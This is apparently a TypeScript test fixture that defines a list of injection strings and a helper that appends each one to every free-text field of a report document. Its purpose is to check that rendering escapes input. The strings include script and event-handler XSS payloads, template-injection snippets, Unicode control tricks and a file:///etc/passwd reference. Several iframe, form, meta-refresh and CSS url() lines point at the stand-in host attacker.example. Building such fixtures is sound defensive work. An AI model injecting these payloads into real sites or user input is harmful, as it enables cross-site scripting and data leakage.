import { registersSchema } from "../../model/registers.ts";
import type { ResultDocument } from "../../model/result.ts";

/** Text that breaks out of one context or another where it is not escaped. Each sets window.hit or asks for an address if it gets through. */
export const hostileTexts: readonly string[] = [
	"<script>window.hit=1;alert(1)</script>",
	'"><img src=x onerror=window.hit=1;alert(2)>',
	"' onmouseover='window.hit=1' autofocus onfocus='window.hit=1;alert(3)' x='",
	"</title></style></script><svg onload=window.hit=1;alert(4)><script>window.hit=1</script>",
	"javascript:window.hit=1;alert(5)",
	"--><script>window.hit=1</script><!-- ]]> <![CDATA[",
	"{{constructor.constructor 'window.hit=1'}} {{{this}}} {{> x}} $\u007bwindow.hit=1}",
	"<iframe src=https://attacker.example/frame></iframe><link rel=stylesheet href=https://attacker.example/a.css><meta http-equiv=refresh content='0;url=https://attacker.example/'>",
	"<base href=https://attacker.example/><form action=https://attacker.example/><input name=a><button formaction=javascript:alert(6)>",
	"\\3c/style\\3e </style><style>*{background:url(https://attacker.example/b)}</style>",
	"a\u202Egpj.exe\u2066\u200B\u0000\u0007\u001B[31m\u0085\u2028\uFEFF\u{E0041}\uD800 e\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
	'https://attacker.example/"onclick="window.hit=1 data:text/html,<script>alert(7)</script> file:///etc/passwd //attacker.example/x',
	"xn--<script>window.hit=1</script>.example xn--mnchen-3ya.example <b>&lt;&#60;&amp;lt;",
	"\r\n\t<plaintext><xmp><noscript><template><select><math><mtext></p>",
];

const fixedFields = new Set([
	"status",
	"state",
	"severity",
	"method",
	"kind",
	"code",
	"disposition",
	"implementation",
	"ruleStatus",
	"standing",
	"type",
	"paperSize",
	"schema",
]);

/**
 * The same document with the text added to every string that is not one of a closed list. The same string becomes the
 * same string everywhere, so that results, controls and evidence still find each other.
 */
export function hostileResult(document: ResultDocument, text: string): ResultDocument {
	return poison(document, "", text) as ResultDocument;
}

function poison(value: unknown, field: string, text: string, inRecords = false): unknown {
	if (typeof value === "string") return value + text;
	if (Array.isArray(value)) return value.map((item) => poison(item, field, text, inRecords));
	if (value === null || typeof value !== "object") return value;
	const out: Record<string, unknown> = {};
	for (const [key, item] of Object.entries(value)) {
		const fixed = fixedFields.has(key) && typeof item === "string" && !inRecords && !(key === "kind" && ("sha256" in value || "listed" in value));
		const free = field === "vantage" || field === "byClass" || (field === "records" && !Object.hasOwn(registersSchema.shape, key));
		const name = free ? key + text : key;
		if (fixed || key === "totals") out[name] = item;
		else if (key === "tool") out[name] = { ...(item as object), version: `0.1.0${text}` };
		else out[name] = poison(item, key, text, inRecords || key === "records");
	}
	return out;
}
